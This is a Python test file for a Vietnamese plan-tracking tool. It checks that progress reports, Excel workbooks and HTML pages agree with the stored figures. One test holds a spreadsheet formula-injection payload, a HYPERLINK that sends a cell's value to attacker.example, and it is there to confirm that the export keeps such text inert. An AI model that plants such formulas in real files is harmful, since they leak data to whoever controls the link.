"""Progress reports: compiled from the store, written as Excel and HTML, read back and checked."""

import datetime as dt
from html.parser import HTMLParser

import openpyxl
import pytest

from notifications.channels import Channels
from notifications.dispatch import dispatch
from plantrack.exports.excel import SHEETS, write_workbook
from plantrack.exports.html import render_report
from plantrack.progress import Cell, compile_report, half_years
from plantrack.store.sync import sync_catalogue
from plantrack.tracking import COUNTED, Status, count_statuses, find_occurrence, record_submission, status_rows
from plantrack.watch import watch

from .conftest import vn

D = dt.date
AS_OF = vn(2021, 1, 20, 23, 59)


def test_half_years_follow_the_plan_period():
    periods = half_years(D(2020, 11, 1), D(2023, 10, 31))
    assert [(p.start, p.end) for p in periods[:2]] == [(D(2020, 11, 1), D(2021, 4, 30)), (D(2021, 5, 1), D(2021, 10, 31))]
    assert len(periods) == 6 and periods[-1].end == D(2023, 10, 31)
    assert periods[0].label == "Kỳ 1 (11/2020–04/2021)"
    short = half_years(D(2020, 8, 31), D(2021, 3, 15))  # no 31/02: the period ends on the last day of February
    assert [(p.start, p.end) for p in short] == [(D(2020, 8, 31), D(2021, 2, 27)), (D(2021, 2, 28), D(2021, 3, 15))]


def test_cell_colour_is_the_worst_status_in_it():
    counts = {s: 0 for s in Status}
    assert Cell(dict(counts)).status is None
    assert Cell({**counts, Status.ON_TIME: 3, Status.LATE: 1}).status is Status.LATE
    assert Cell({**counts, Status.ON_TIME: 3, Status.OVERDUE: 1, Status.IN_PROGRESS: 2}).status is Status.OVERDUE


@pytest.fixture
def history(synced):
    """t.alpha hands in its plan on time, t.beta never; the morning watches remind beta."""
    with synced.transaction() as session:
        record_submission(session, find_occurrence(session, None, "t-plan", "ke-hoach", "t.alpha"), vn(2020, 11, 13, 9))
    for day in (D(2020, 11, 9), D(2020, 11, 16), D(2020, 11, 17), D(2020, 11, 23)):
        morning = dt.datetime.combine(day, dt.time(7, 30), tzinfo=AS_OF.tzinfo)
        with synced.transaction() as session:
            watch(session, morning)
        dispatch(synced, morning, Channels.stub())
    return synced


def test_the_report_agrees_with_the_store(history):
    with history.session() as session:
        report = compile_report(session, "t-plan", AS_OF)
        rows = status_rows(session, AS_OF, "t-plan", include_not_open=True)
    assert report.counts == count_statuses(rows)
    for unit in report.units:
        own = [r for r in rows if r.unit_id == unit.unit_id]
        assert unit.counts == count_statuses(own)
        for status in COUNTED:  # every counted occurrence sits in exactly one period cell
            assert sum(cell.counts[status] for cell in unit.cells) == unit.counts[status]
    beta = next(u for u in report.units if u.unit_id == "t.beta")
    assert beta.counts[Status.OVERDUE] >= 1 and report.units[0].unit_id == "t.beta"  # the lagging come first
    owed = [o for o in report.owed if o.unit_id == "t.beta" and o.obligation_title == "Gửi kế hoạch của đơn vị"]
    assert len(owed) == 1 and owed[0].deadline == D(2020, 11, 16) and owed[0].days_late == 65
    assert owed[0].notices_sent >= 3  # the ladder of 09/11 … 23/11 reached beta (and its escalation)
    assert {u.unit_id for u in report.lagging} == {r.unit_id for r in rows if r.status is Status.OVERDUE}


def test_the_workbook_reads_back_the_same_figures(history, tmp_path):
    with history.session() as session:
        report = compile_report(session, "t-plan", AS_OF)
    book = openpyxl.load_workbook(write_workbook(report, tmp_path / "r.xlsx"))
    assert book.sheetnames == list(SHEETS)
    summary = {row[0]: row[1] for row in book[SHEETS[0]].iter_rows(values_only=True)}
    assert summary["Số liệu đến hết ngày"] == "20/01/2021"
    assert summary["Quá hạn"] == report.counts[Status.OVERDUE] and summary["Hoàn thành đúng hạn"] == report.counts[Status.ON_TIME]
    units = list(book[SHEETS[1]].iter_rows(min_row=2, values_only=True))
    assert {row[0]: row[3:3 + len(COUNTED)] for row in units} == {u.unit_id: tuple(u.counts[s] for s in COUNTED) for u in report.units}
    lagging = list(book[SHEETS[3]].iter_rows(min_row=2, values_only=True))
    assert [(row[0], row[5].date(), row[6]) for row in lagging] == [(o.unit_id, o.deadline, o.days_late) for o in report.owed]
    heat = book[SHEETS[2]]
    beta_name = next(u.name for u in report.units if u.unit_id == "t.beta")
    beta_row = next(row for row in heat.iter_rows(min_row=2) if row[0].value == beta_name)
    assert beta_row[1].fill.start_color.rgb.endswith("C62828")  # overdue in the first period: red


class _Tables(HTMLParser):
    """Rows of the page's tables, keyed by table id; each cell as (text, data-status)."""

    def __init__(self):
        super().__init__()
        self.tables, self.table, self.row, self.cell = {}, None, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table":
            self.table = self.tables.setdefault(attrs.get("id"), [])
        elif tag == "tr" and self.table is not None:
            self.row = {"attrs": attrs, "cells": []}
            self.table.append(self.row)
        elif tag in ("td", "th") and self.row is not None:
            self.cell = ["", attrs.get("data-status")]
            self.row["cells"].append(self.cell)

    def handle_endtag(self, tag):
        if tag == "table":
            self.table = None
        elif tag in ("td", "th"):
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell[0] += data


def test_the_html_page_reads_back_the_same_figures(history):
    with history.session() as session:
        report = compile_report(session, "t-plan", AS_OF)
    page = render_report(report)
    assert "Báo cáo tiến độ thực hiện Kế hoạch số 1/KH-TEST" in page and "Số liệu đến hết ngày 20/01/2021" in page
    parsed = _Tables()
    parsed.feed(page)
    rows = [r for r in parsed.tables["units"] if "data-unit" in r["attrs"]]
    for row in rows:
        unit = next(u for u in report.units if u.unit_id == row["attrs"]["data-unit"])
        counted = {status: int(text) for text, status in row["cells"] if status in {s.value for s in COUNTED} and text.strip().isdigit()}
        assert counted == {s.value: unit.counts[s] for s in COUNTED}
    assert len(rows) == len(report.units)
    owed = [r for r in parsed.tables["owed"] if "data-unit" in r["attrs"]]
    assert [(r["attrs"]["data-unit"], r["cells"][4][0]) for r in owed] == [(o.unit_id, f"{o.deadline:%d/%m/%Y}") for o in report.owed]


def test_the_national_plan_rolls_up_the_provinces_own_plans(store, real_catalogue):
    with store.transaction() as session:
        sync_catalogue(session, real_catalogue)
    with store.session() as session:
        report = compile_report(session, "kh-399", vn(2020, 12, 1))
    hanoi = next(c for c in report.children if c.plan_id == "hn-kh-03")
    assert hanoi.owner_id == "vn.province.ha-noi" and hanoi.doc_type == "ke_hoach"
    provinces = {unit_id: plans for unit_id, _, plans in report.implementers}
    # Gia Lai's plan implements the national Đề án (Quyết định 319/QĐ-TTg), not plan 399.
    assert len(provinces) == 63 and provinces["vn.province.ha-noi"] == ["hn-kh-03"] and provinces["vn.province.gia-lai"] == []
    assert all(not plans for unit_id, plans in provinces.items() if unit_id != "vn.province.ha-noi")
    with store.session() as session:
        in_hanoi = status_rows(session, vn(2020, 12, 1), "hn-kh-03", include_not_open=True)
    assert hanoi.counts == count_statuses(in_hanoi)


def test_a_reference_plan_reports_the_plans_implementing_it(store, real_catalogue):
    """The Đề án is encoded without duties of its own: its report has no units of its own and
    counts the plans implementing it (Gia Lai's: its department and its two forces, no district)."""
    with store.transaction() as session:
        sync_catalogue(session, real_catalogue)
    with store.session() as session:
        report = compile_report(session, "319/QĐ-TTg", vn(2024, 1, 10))
        in_gia_lai = status_rows(session, vn(2024, 1, 10), "gl-kh-tmdt", include_not_open=True)
    assert not report.own_units and [c.plan_id for c in report.children] == ["gl-kh-tmdt"]
    assert {u.unit_id for u in report.units} == {"gl.sct", "gl.cqltt", "gl.stttt"}
    assert report.children[0].counts == count_statuses(in_gia_lai) and sum(report.children[0].counts.values()) > 0


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(history, tmp_path):
    import zipfile

    from plantrack.tracking import request_adhoc

    title = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    with history.transaction() as session:
        request_adhoc(session, "t-plan", ["t.beta"], vn(2020, 12, 1, 9), title, 3)
    with history.session() as session:
        report = compile_report(session, "t-plan", AS_OF)
    path = write_workbook(report, tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode("utf-8") for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)  # no formula anywhere
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == title]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_the_report_says_which_deadlines_are_the_coordinators_default(history, tmp_path):
    with history.session() as session:
        report = compile_report(session, "t-plan", AS_OF)
    said = {o.obligation_title: o.assumption for o in report.owed if o.unit_id == "t.beta"}
    default = "Văn bản không nêu thời hạn; cơ quan điều phối đặt hạn mặc định."
    assert said == {"Gửi kế hoạch của đơn vị": "", "Báo cáo 6 tháng": default}  # the mini plan's half-yearly report is assumed
    book = openpyxl.load_workbook(write_workbook(report, tmp_path / "r.xlsx"))
    notes = {row[3]: row[8] for row in book[SHEETS[3]].iter_rows(min_row=2, values_only=True) if row[0] == "t.beta"}
    assert notes == {"Gửi kế hoạch của đơn vị": None, "Báo cáo 6 tháng": default}
    parsed = _Tables()
    parsed.feed(render_report(report))
    owed = {r["cells"][2][0]: r["cells"][7][0] for r in parsed.tables["owed"] if r["attrs"].get("data-unit") == "t.beta"}
    assert owed == {"Gửi kế hoạch của đơn vị": "", "Báo cáo 6 tháng": default}
